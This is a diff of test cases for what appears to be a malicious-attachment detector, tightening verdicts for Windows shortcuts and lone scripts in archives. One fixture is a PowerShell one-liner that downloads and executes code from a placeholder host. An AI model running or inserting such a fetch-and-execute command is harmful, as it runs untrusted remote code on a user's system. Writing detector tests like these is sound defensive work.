@@ -12,16 +12,16 @@ describe('a script', () => {
     ['open.js', dropper],
     ['open.ps1', Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x.example")')],
     ['open.js', Buffer.from(`\ufeff${dropper.toString()}`, 'utf16le')],
-    ['open.lnk', windowsShortcut()],
     ['setup.scr', windowsProgram()],
   ])('that runs on a double click is suspicious: %s', async (name, bytes) => {
     expect((await judgeFile(name, bytes)).decision.verdict).toBe('SUSPICIOUS');
   });
 
-  it('alone in an archive is suspicious, and malware when it reaches the machine', async () => {
+  it('or a shortcut is held when nothing honest comes that way: a shortcut, or alone in an archive', async () => {
+    expect((await judgeFile('open.lnk', windowsShortcut())).decision.verdict).toBe('MALWARE');
     const { decision, rules } = await judgeFile('invoice.zip', zip([{ name: 'invoice_7731.js', bytes: dropper }]));
     expect(rules).toEqual(['script', 'lone-program']);
-    expect(decision.verdict).toBe('SUSPICIOUS');
+    expect(decision.verdict).toBe('MALWARE');
   });
 
   it.each([
